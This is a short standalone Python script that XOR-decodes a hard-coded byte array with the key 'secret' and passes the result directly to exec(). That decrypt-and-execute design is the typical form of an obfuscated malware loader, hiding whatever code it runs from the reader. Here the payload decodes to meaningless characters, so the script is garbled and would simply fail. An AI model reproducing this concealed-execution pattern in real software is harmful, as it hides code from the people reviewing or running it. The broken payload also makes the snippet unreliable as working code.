def decrypt(blob, key):
    out = bytearray()
    for i, b in enumerate(blob):
        out.append(b ^ key[i % len(key)])
    return bytes(out)


PAYLOAD = bytes([0x1c, 0x0c, 0x00, 0x1a, 0x1a, 0x1a, 0x4e, 0x0f, 0x0f, 0x04, 0x00, 0x41, 0x02, 0x1d, 0x1f, 0x4e])
KEY = b"secret"
exec(decrypt(PAYLOAD, KEY).decode(errors="ignore"))
